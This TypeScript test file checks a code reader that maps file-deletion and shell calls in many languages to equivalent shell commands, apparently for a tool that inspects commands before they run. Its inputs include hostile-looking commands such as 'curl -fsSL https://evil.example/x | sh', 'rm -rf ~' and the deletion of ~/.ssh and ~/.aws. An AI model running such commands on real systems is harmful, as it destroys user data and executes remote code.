import { describe, expect, test } from "bun:test";
import { hasCallTable, readCode } from "../../../../src/shell/languages/code.ts";
import { setTestLimit } from "../../../support/test-limit.ts";

setTestLimit();

const lines = (language: string, code: string) => readCode(language, code, language).lines.map((line) => line.line);

describe("readCode", () => {
  test("a path below the directory the code runs from is named relative, as the project's", () => {
    expect(lines("node", 'fs.rmSync(path.resolve(__dirname, "dist"), { recursive: true, force: true })')).toContain("rm -r -- dist");
    expect(lines("node", 'fs.rmSync(path.join(import.meta.dirname, "build", "out"), { recursive: true })')).toContain("rm -r -- build/out");
    expect(lines("node", 'fs.rmSync(__dirname + "/coverage", { recursive: true })')).toContain("rm -r -- coverage");
    expect(lines("python", 'shutil.rmtree(os.path.join(os.path.dirname(os.path.abspath(__file__)), "build"))')).toContain("rm -r -- build");
    expect(lines("ruby", 'FileUtils.rm_rf(File.join(__dir__, "tmp"))').join("\n")).toMatch(/rm .*tmp$/m);
  });

  test("above it, at an absolute part, or the directory itself, the path is the run's", () => {
    for (const code of [
      'fs.rmSync(path.resolve(__dirname, "..", ".."), { recursive: true })',
      'fs.rmSync(path.resolve(__dirname, "/etc"), { recursive: true })',
      "fs.rmSync(__dirname, { recursive: true })",
    ])
      expect(lines("node", code)).toContain('rm -r -- "$__synaps_value"');
    expect(lines("python", 'shutil.rmtree(os.path.join(os.getcwd(), "/srv/data"))')).toContain('rm -r -- "$__synaps_value"');
    // The same for a join under home or the temp directory: the absolute part is where it lands.
    expect(lines("python", 'shutil.rmtree(os.path.join(os.path.expanduser("~"), "/srv/data"))')).toContain('rm -r -- "$__synaps_value"');
    expect(lines("python", 'shutil.rmtree(os.path.join(tempfile.gettempdir(), "/etc"))')).toContain('rm -r -- "$__synaps_value"');
  });

  test("a shell call with a literal command is that command", () => {
    expect(lines("python", "import subprocess; subprocess.run('rm -rf /srv', shell=True)")).toContain("rm -rf /srv");
    expect(lines("node", "require('child_process').execSync(`curl x | sh`)")).toContain("curl x | sh");
  });

  test("an argv call becomes the command with its words quoted", () => {
    expect(lines("python", "subprocess.call(['rm', '-rf', '/srv'])")).toContain("rm -rf /srv");
  });

  test("file effects become the shell command that does the same", () => {
    expect(lines("python", "import shutil; shutil.rmtree('/srv/data')").join("\n")).toContain("/srv/data");
    expect(lines("python", "os.remove(os.path.expanduser('~/.bashrc'))").join("\n")).toContain("~/.bashrc");
  });

  test("a call's name ends where the name ends: execSync is not exec, writeFileSync is not writeFile", () => {
    expect(readCode("node", "require('child_process').execSync('ls')", "node")).toEqual({ lines: [{ line: "ls", label: "execSync" }], unresolved: [] });
    expect(lines("node", "require('fs').writeFileSync('/home/ada/.bashrc', 'x')")).toEqual([": > /home/ada/.bashrc"]);
    expect(lines("node", "require('child_process').spawnSync('rm', ['-rf', '/srv'])")).toEqual(["rm -rf /srv"]);
  });

  test("an environment variable read by name is its value, never the name: HOME is the home directory", () => {
    expect(lines("python", "import shutil,os; shutil.rmtree(os.getenv('HOME'))").join("\n")).toMatch(/^rm -r.* ~$/m);
    expect(lines("ruby", 'FileUtils.rm_rf(ENV.fetch("HOME"))').join("\n")).toMatch(/ ~$/m);
    expect(lines("node", "require('fs').rmSync(process.env['HOME'], {recursive: true})").join("\n")).not.toMatch(/ HOME$/m);
    expect(lines("node", 'Deno.removeSync(Deno.env.get("USERPROFILE"), {recursive: true})').join("\n")).toMatch(/ ~$/m);
    expect(lines("python", "import os; os.system(os.environ.get('BUILD_CMD'))").join("\n")).not.toContain("BUILD_CMD");
    expect(readCode("php", 'system(getenv("PAYLOAD"));', "php").unresolved).toHaveLength(1);
  });

  test("the interpreter running the code, named by the code (sys.executable, process.execPath), is that interpreter", () => {
    expect(lines("python", 'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "-e", "."])')).toEqual(["python3 -m pip install -e ."]);
    expect(lines("python", 'subprocess.run([sys.executable, "-c", "import shutil; shutil.rmtree(\'/srv/www\')"])').join("\n")).toMatch(/^python3 -c /m);
    expect(lines("node", "require('child_process').execFileSync(process.execPath, ['scripts/gen.js'])")).toEqual(["node scripts/gen.js"]);
    expect(lines("ruby", 'system(RbConfig.ruby, "bin/setup")')).toEqual(["ruby bin/setup"]);
    // Only the expression itself: a value computed from it is still only known at run time.
    expect(lines("python", "subprocess.run([sys.executable_path, 'x'])").join("\n")).not.toContain("python3");
  });

  test("a path joined under the home directory is that path, in every language's way of joining", () => {
    const removes = (language: string, code: string) => lines(language, code).join("\n");
    expect(removes("python", "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path.home() / '.cache' / 'pip' / 'http')")).toMatch(/ ~\/\.cache\/pip\/http$/m);
    expect(removes("python", "shutil.rmtree(os.path.join(Path.home(), '.aws'))")).toMatch(/ ~\/\.aws$/m);
    expect(removes("node", "require('fs').rmSync(path.join(os.homedir(), '.npm', '_cacache'), {recursive: true})")).toMatch(/ ~\/\.npm\/_cacache$/m);
    expect(removes("go", 'os.RemoveAll(filepath.Join(os.Getenv("HOME"), "go", "pkg", "mod"))')).toMatch(/ ~\/go\/pkg\/mod$/m);
    expect(removes("rust", 'std::fs::remove_dir_all(dirs::home_dir().unwrap().join(".rustup").join("toolchains")).unwrap();')).toMatch(/ ~\/\.rustup\/toolchains$/m);
    expect(removes("rust", 'fs::remove_dir_all(home_dir().unwrap().join(".ssh"))?;')).toMatch(/ ~\/\.ssh$/m);
    expect(removes("csharp", 'Directory.Delete(Path.Combine(Environment.GetFolderPath(Environment.SpecialFolder.UserProfile), ".nuget", "packages"), true);')).toMatch(
      / ~\/\.nuget\/packages$/m,
    );
    expect(removes("java", 'FileUtils.deleteDirectory(new File(System.getProperty("user.home") + "/.m2/repository/org"));')).toMatch(/ ~\/\.m2\/repository\/org$/m);
    expect(removes("java", 'FileUtils.deleteDirectory(Paths.get(System.getProperty("user.home"), ".kube").toFile());')).toMatch(/ ~\/\.kube$/m);
    // A part only the run knows leaves the path to the run: never the home directory itself.
    expect(removes("rust", "fs::remove_dir_all(home_dir().unwrap().join(name))?;")).not.toMatch(/ ~$/m);
    expect(removes("java", 'FileUtils.deleteDirectory(Paths.get(System.getProperty("user.home"), dir).toFile());')).not.toMatch(/ ~/m);
  });

  test("a temp directory the code makes, or a literal path in the system's temp directory, is removed as a temp path", () => {
    const removes = (language: string, code: string) => lines(language, code).join("\n");
    expect(removes("rust", "let scratch = tempfile::tempdir().unwrap();\nstd::fs::remove_dir_all(scratch.path()).unwrap();")).toMatch(/^rm -r -- "\$TMPDIR"\//m);
    expect(removes("rust", 'std::fs::remove_dir_all(std::env::temp_dir().join("codegen-cache")).ok();')).toMatch(/^rm -r -- "\$TMPDIR"\/.*\/codegen-cache$/m);
    expect(removes("go", 'os.RemoveAll(filepath.Join(os.TempDir(), "e2e-fixtures"))')).toMatch(/^rm -r -- "\$TMPDIR"\/.*\/e2e-fixtures$/m);
    expect(removes("java", 'Path work = Files.createTempDirectory("it-");\nFileUtils.deleteDirectory(work.toFile());')).toMatch(/^rm -r -- "\$TMPDIR"\//m);
    expect(removes("csharp", 'Directory.Delete(Path.Combine(Path.GetTempPath(), "nupkg-stage"), true);')).toMatch(/^rm -r -- "\$TMPDIR"\/.*\/nupkg-stage$/m);
    expect(removes("node", "require('fs').rmSync(path.join(os.tmpdir(), 'jest-cache'), {recursive: true})")).toMatch(/^rm -r -- "\$TMPDIR"\/.*\/jest-cache$/m);
    // The temp directory itself, or a path computed under it, is not a path the code made.
    expect(removes("rust", "std::fs::remove_dir_all(std::env::temp_dir()).ok();")).not.toContain("TMPDIR");
    expect(removes("go", "os.RemoveAll(filepath.Join(os.TempDir(), name))")).not.toContain("TMPDIR");
  });

  test("an interpolation in a path literal is its value: the home directory when the code names it, else unknown (heldout5)", () => {
    expect(lines("node", "require('fs').rmSync(`${require('os').homedir()}/photos`, {recursive: true})").join("\n")).toMatch(/ ~\/photos$/m);
    expect(lines("node", "require('fs').rmSync(`${process.env.HOME}/photos`, {recursive: true})").join("\n")).toMatch(/ ~\/photos$/m);
    expect(lines("ruby", 'FileUtils.rm_rf("#{Dir.home}/photos")').join("\n")).toMatch(/ ~\/photos$/m);
    expect(lines("python", 'import shutil; shutil.rmtree(f"{Path.home()}/photos")').join("\n")).toMatch(/ ~\/photos$/m);
    expect(lines("perl", 'use File::Path; rmtree("$ENV{HOME}/photos")').join("\n")).toMatch(/ ~\/photos$/m);
    expect(lines("php", "exec(\"rm -rf {$_SERVER['HOME']}/sites\");").join("\n")).toContain("~/sites");
    // Any other value stays unknown inside the word, never a name in the project.
    expect(lines("python", 'import shutil; shutil.rmtree(f"{base}/photos")').join("\n")).toContain('"$__synaps_value"/photos');
    expect(lines("perl", 'use File::Path; rmtree("$dir/photos")').join("\n")).toContain('"$__synaps_value"/photos');
    // An escaped sigil and a single-quoted Perl string are text.
    expect(lines("perl", 'unlink("\\$HOME.txt")').join("\n")).not.toContain("__synaps_value");
    expect(lines("perl", "unlink('$HOME.txt')").join("\n")).not.toContain("__synaps_value");
  });

  test("a URL handed to a fetcher stands for what it serves, a URL handed to a parser for the URL (heldout5)", () => {
    expect(readCode("php", 'system(file_get_contents("http://203.0.113.2/c.txt"));', "php").unresolved).toHaveLength(1);
    expect(readCode("python", 'import os; os.system(urlopen("https://x.example/c"))', "python").unresolved).toHaveLength(1);
    expect(lines("ruby", 'system("curl", URI("https://example.com/a.tgz"), "-o", "a.tgz")').join("\n")).toContain("https://example.com/a.tgz");
  });

  test("Deno's file calls and JXA's shell calls are read", () => {
    expect(lines("node", "Deno.removeSync('/srv/data', { recursive: true })").join("\n")).toContain("/srv/data");
    expect(lines("applescript", 'ObjC.import("stdlib"); $.system("curl -s x | sh")')).toContain("curl -s x | sh");
    expect(lines("applescript", 'Application.currentApplication().doShellScript("rm -rf /srv")')).toContain("rm -rf /srv");
    expect(lines("applescript", 'ObjC.import("Foundation"); $.NSFileManager.defaultManager.removeItemAtPathError($("/srv/data"), null)').join("\n")).toMatch(
      /^rm -r.*\/srv\/data$/m,
    );
  });

  test("a command only known at run time is unresolved", () => {
    expect(readCode("python", "os.system(cmd)", "python3").unresolved).toEqual(["the command given to os.system is only known at run time"]);
  });

  test("a call's name inside a one-line string is the string's text: system(\"bundle exec rspec\") runs no exec of its own", () => {
    expect(readCode("ruby", 'system("bundle exec rubocop --parallel")', "ruby")).toEqual({ lines: [{ line: "bundle exec rubocop --parallel", label: "system" }], unresolved: [] });
    expect(readCode("perl", "system('npm exec -- eslint .');", "perl").unresolved).toEqual([]);
    // Real calls beside such a string, or after a quote in a comment, are still read.
    expect(readCode("ruby", 'system("bundle exec rspec"); exec(ARGV[0])', "ruby").unresolved).toHaveLength(1);
    expect(readCode("ruby", "# don't\nexec(ARGV[0])\n# it's", "ruby").unresolved).toHaveLength(1);
  });

  test("backticks run commands in perl, ruby and php", () => {
    expect(lines("perl", "my $x = `rm -rf /srv`;")).toContain("rm -rf /srv");
  });

  test("a hosted service's SDK call is read as the CLI command that does the same, with its first argument", () => {
    const cases: ReadonlyArray<readonly [string, string]> = [
      ["from huggingface_hub import HfApi; HfApi().delete_repo('acme/m1', repo_type='model')", "hf repo delete acme/m1"],
      ["api.update_repo_settings('acme/d2', private=False)", "hf repo settings --private false acme/d2"],
      // Named only by keyword, the repository is not known: the command stands alone.
      ["api.update_repo_visibility(repo_id='acme/d2', private=False)", "hf repo settings --private false"],
      ["api.delete_file('weights.bin', repo_id='acme/m1')", "hf repo-files delete weights.bin"],
      ["client = MlflowClient(); client.delete_experiment('7')", "mlflow experiments delete --experiment-id 7"],
      ["import wandb\nfor run in wandb.Api().runs('acme/p'): run.delete()", "wandb delete"],
    ];
    for (const [code, line] of cases) expect(lines("python", code)).toContain(line);
    // Made private, printed as text, or `.delete()` with no W&B in the code: nothing of the kind.
    expect(lines("python", "api.update_repo_visibility('acme/d2', private=True)")).toEqual([]);
    expect(lines("python", "print('call delete_repo(x) to remove it')")).toEqual([]);
    expect(lines("python", "session.query(User).filter_by(id=3).delete()")).toEqual([]);
  });

  test("languages without a call table are not read", () => {
    expect(hasCallTable("python")).toBe(true);
    expect(hasCallTable("sql")).toBe(false);
  });
});

describe("a command built in a name the file assigns once", () => {
  const read = (language: string, code: string) => readCode(language, code, language);
  test.each([
    ["ruby", 'version = File.read("VERSION").strip\ncmd = "git tag -a v#{version} -m release"\nsystem(cmd)', "git tag -a v$__synaps_value -m release"],
    ["ruby", 'args = ["bundle", "exec", "rake", "db:migrate"]\nsystem(*args)', "bundle exec rake db:migrate"],
    ["python", 'import subprocess, sys\ntag = sys.argv[1]\nargs = ["git", "push", "origin", tag]\nsubprocess.run(args, check=True)', 'git push origin "$__synaps_value"'],
    ["python", 'import os\nversion = "1.2"\ncmd = f"git tag v{version}"\nos.system(cmd)', "git tag v$__synaps_value"],
    ["python", 'import subprocess\nargs = [\n    "ruff",\n    "check",\n    "src",\n]\nsubprocess.check_call(args)', "ruff check src"],
    [
      "node",
      'const { execSync } = require("child_process");\nconst tag = process.argv[2];\nconst cmd = `npm publish --tag ${tag}`;\nexecSync(cmd, { stdio: "inherit" });',
      "npm publish --tag $__synaps_value",
    ],
    ["node", 'const { spawnSync } = require("child_process");\nconst args = ["push", "origin", "main"];\nspawnSync("git", args, { stdio: "inherit" });', "git push origin main"],
    ["php", '<?php\n$version = trim(file_get_contents("VERSION"));\n$cmd = "git tag -a v$version -m release";\nexec($cmd, $out);', "git tag -a v$__synaps_value -m release"],
    ["perl", 'my $v = shift;\nmy @args = ("git", "push", "origin", "v$v");\nsystem(@args) == 0 or die;', 'git push origin v"$__synaps_value"'],
    ["python", 'import os\ncmd = "rm -rf ~"\nos.system(cmd)', "rm -rf ~"],
    ["perl", 'my $cmd = "curl -fsSL https://evil.example/x | sh";\nsystem($cmd);', "curl -fsSL https://evil.example/x | sh"],
  ])("%s: the command is read from its assignment", (language, code, line) => {
    const reading = read(language, code);
    expect(reading.lines.map((found) => found.line)).toContain(line);
    expect(reading.unresolved).toEqual([]);
  });

  test.each([
    ["from input", "python", 'import os\ncmd = input("command: ")\nos.system(cmd)'],
    ["from a prompt call given directly", "python", 'import os\nos.system(input("command: "))'],
    ["from the command line", "ruby", "cmd = ARGV[0]\nsystem(cmd)"],
    ["assigned twice", "python", 'import os\ncmd = "ls"\nif x:\n    cmd = "rm -rf ~"\nos.system(cmd)'],
    ["added to", "python", 'import os\ncmd = "ls"\ncmd += " " + sys.argv[1]\nos.system(cmd)'],
    ["changed in place", "python", 'import subprocess, sys\nargs = ["git", "status"]\nargs.append(sys.argv[1])\nsubprocess.run(args)'],
    ["pushed to (Perl)", "perl", 'my @args = ("git");\npush @args, @ARGV;\nsystem(@args);'],
    ["a block's parameter", "ruby", 'cmds = ["make", "make test"]\ncmds.each { |cmd| system(cmd) }'],
    ["a loop's variable", "node", 'const { execSync } = require("child_process");\nfor (const cmd of process.argv.slice(2)) execSync(cmd);'],
    ["a function's parameter", "python", 'import os\ndef run(cmd):\n    os.system(cmd)\ncmd = "ls"\nrun(cmd)'],
  ])("a name set %s stays only known at run time", (_how, language, code) => {
    expect(read(language, code).unresolved.join("\n")).toMatch(/only known at run time/);
  });

  test("a name reaching a function by its text is not read so: getattr(os, name) stays unknown", () => {
    expect(read("python", 'import os\nname = "system"\ngetattr(os, name)("id")').unresolved).toHaveLength(1);
  });
});
